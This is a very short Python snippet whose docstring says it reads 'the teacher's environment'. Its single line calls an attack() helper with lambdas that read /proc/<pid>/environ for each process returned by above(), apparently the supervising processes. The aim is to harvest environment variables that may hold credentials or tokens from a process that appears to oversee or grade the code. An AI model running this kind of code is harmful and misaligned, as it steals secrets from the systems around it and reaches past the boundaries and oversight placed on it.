"""Read what the teacher's environment holds."""

# %%
attack(*[lambda pid=pid: open(f"/proc/{pid}/environ").read() for pid in above()])
